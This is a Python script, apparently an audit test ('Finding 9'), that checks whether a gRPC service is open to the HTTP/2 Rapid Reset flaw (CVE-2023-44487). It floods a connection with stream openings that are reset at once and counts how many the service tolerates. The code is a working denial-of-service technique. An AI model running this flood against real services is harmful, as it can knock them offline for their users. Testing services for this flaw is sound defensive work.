"""Finding 9: gRPC calls that are reset at once (CVE-2023-44487). Taken if one connection may do it 20,000 times."""
import time

import http2
import loopback

arguments = loopback.parser(__doc__)
arguments.add_argument('--count', type=loopback.bounded(400_000), default=100_000, help='calls in all')
arguments.add_argument('--path', default='/wiretrial.v1.Streams/TextEcho')
arguments = arguments.parse_args()
target = loopback.Target.of(arguments)
BURST = 100
sent, connections, longest = 0, 0, 0
while sent < arguments.count and target.left():
    here = 0
    try:
        with target.connect(buffers=65536) as one:
            connections += 1
            one.sendall(http2.opening() + http2.frame(http2.SETTINGS, http2.ACK, 0))
            while sent < arguments.count and target.left():
                one.sendall(b''.join(http2.call(2 * number + 1, target.authority, arguments.path)
                                     + http2.reset(2 * number + 1) for number in range(here, here + BURST)))
                sent, here = sent + BURST, here + BURST
                one.setblocking(False)
                try:
                    while octets := one.recv(65536):  # answers are of no interest, but must not fill the window
                        pass
                    raise OSError('closed by the service')
                except BlockingIOError:
                    one.settimeout(5)
            longest = max(longest, here)
    except OSError:
        longest = max(longest, here)
        time.sleep(loopback.PAUSE)
loopback.verdict(longest >= min(arguments.count, 20_000),
                 '%d resets on %d connections, at most %d on one' % (sent, connections, longest))
